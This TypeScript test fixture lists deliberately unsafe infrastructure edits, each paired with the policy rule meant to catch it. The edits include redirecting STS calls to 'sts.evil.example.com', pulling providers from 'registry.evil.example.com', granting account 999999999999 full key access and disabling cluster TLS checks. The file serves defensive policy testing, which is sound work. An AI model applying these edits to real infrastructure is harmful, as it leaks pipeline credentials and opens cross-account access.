import { type Edit, editsOf } from "../edit";

const policy = "policy";

/** Unsafe edits that reach another account, another region, another state or another cluster. */
export const accountEdits: readonly Edit[] = [
  ...editsOf("modules/src/stack/paved-stack.ts", [
    {
      what: "a stack changes whatever account the pipeline happens to be signed in to",
      from: "      allowedAccountIds: [this.environment.account],\n",
      to: "",
      caught: policy,
      by: "ROOT-003",
    },
    {
      what: "credentials of the pipeline are sent to somebody else",
      from: "      allowedAccountIds: [this.environment.account],\n",
      to: '      allowedAccountIds: [this.environment.account],\n      endpoints: [{ sts: "https://sts.evil.example.com" }],\n',
      caught: policy,
      by: "ROOT-003",
    },
    {
      what: "providers come from another registry",
      from: '"registry.opentofu.org/hashicorp"',
      to: '"registry.evil.example.com/hashicorp"',
      caught: policy,
      by: "ROOT-008",
    },
  ]),
  ...editsOf("modules/src/stack/state-encryption.ts", [
    {
      what: "all stacks of an environment share one state",
      from: "${name}.tfstate",
      to: "all.tfstate",
      caught: "synth",
      by: "PVD1022",
    },
  ]),
  ...editsOf("environments/src/production.ts", [
    {
      what: "state is kept in somebody else's bucket",
      from: '"paved-state-333333333333"',
      to: '"paved-states-of-all"',
      caught: policy,
      by: "ROOT-005",
    },
  ]),
  ...editsOf("modules/src/stack/kubernetes.ts", [
    {
      what: "the pipeline's token goes to whoever answers as the cluster",
      from: "{ ...rest, exec: [exec] }",
      to: "{ ...rest, insecure: true, exec: [exec] }",
      caught: policy,
      by: "ROOT-004",
    },
  ]),
  ...editsOf("modules/src/contract/contract.ts", [
    {
      what: "facts of another environment are taken for the own",
      from: "/paved/${stack.environment.name}/",
      to: "/paved/staging/",
      caught: policy,
      by: "ROOT-002",
    },
  ]),
  ...editsOf("modules/src/encryption-key/key-policy.ts", [
    {
      what: "another account may do everything with every key",
      from: "Principal: { AWS: `arn:aws:iam::${place.account}:root` }",
      to: 'Principal: { AWS: [`arn:aws:iam::${place.account}:root`, "arn:aws:iam::999999999999:root"] }',
      caught: policy,
      by: "ACC-001",
    },
  ]),
  ...editsOf("golden-paths/src/workload/workload-parts.ts", [
    {
      what: "images come from another account",
      from: "${registryHost(environment)}/",
      to: "999999999999.dkr.ecr.eu-west-1.amazonaws.com/",
      caught: policy,
      by: "ACC-002",
    },
  ]),
  ...editsOf("modules/src/namespace/team-access.ts", [
    {
      what: "what a team sees in its namespace it sees in all of them",
      from: 'import { RoleBindingV1 } from "@cdktf/provider-kubernetes/lib/role-binding-v1";',
      to: 'import { ClusterRoleBindingV1 as RoleBindingV1 } from "@cdktf/provider-kubernetes/lib/cluster-role-binding-v1";',
      caught: policy,
      by: "ROOT-001",
    },
  ]),
  ...editsOf("modules/src/iam/service-role.ts", [
    {
      what: "who takes a role can be changed by hand, and no plan shows it",
      from: "      description: props.description,\n",
      to: '      description: props.description,\n      lifecycle: { ignoreChanges: ["assume_role_policy"] },\n',
      caught: policy,
      by: "ROOT-006",
    },
  ]),
  ...editsOf("modules/src/bucket/private-bucket.ts", [
    {
      what: "files are kept in another region",
      from: "forceDestroy: false",
      to: 'forceDestroy: false, region: "us-east-1"',
      caught: policy,
      by: "ROOT-007",
    },
  ]),
];
